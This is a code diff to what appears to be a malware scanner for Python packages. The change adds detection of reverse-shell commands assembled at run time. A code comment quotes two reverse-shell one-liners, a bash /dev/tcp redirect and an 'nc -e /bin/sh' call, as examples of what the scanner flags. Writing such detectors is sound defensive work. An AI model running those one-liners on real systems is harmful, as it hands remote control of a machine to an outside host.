@@ -19,6 +19,16 @@ export function reverseShell(facts: PythonFacts): Reason[] {
       reasons.push(makeReason('reverseShell', `${file} contains a reverse-shell command (${str.value.slice(0, 80)}): it hands a shell on this machine to a remote host. Do not install it.`, { file, line: str.line, evidence: str.value }));
     }
   }
+  // Commands put together at run time: f"bash -i >& /dev/tcp/{host}/{port} 0>&1", 'nc -e /bin/sh ' + host.
+  if (reasons.length === 0) {
+    for (const call of facts.calls) {
+      if (!isProcessCall(call.name) && call.name !== 'pty.spawn') continue;
+      const text = positionalArguments(call.node).map((a) => approximate(facts, a).text).join(' ');
+      if (!SHELL_ONE_LINERS.test(text.slice(0, 4096))) continue;
+      reasons.push(makeReason('reverseShell', `${file} runs a reverse-shell command (${text.slice(0, 80)}): it hands a shell on this machine to a remote host. Do not install it.`, { file, line: call.line, evidence: `${text} ⟵ ${snippet(call.node)}` }));
+      break;
+    }
+  }
   const socket = facts.calls.find((c) => c.name === 'socket.socket' || c.name === 'socket.create_connection' || c.name === 'socket.fromfd');
   if (!socket) return reasons;
   const dup2 = facts.calls.filter((c) => c.name === 'os.dup2' && /fileno\s*\(/.test(c.node.text));
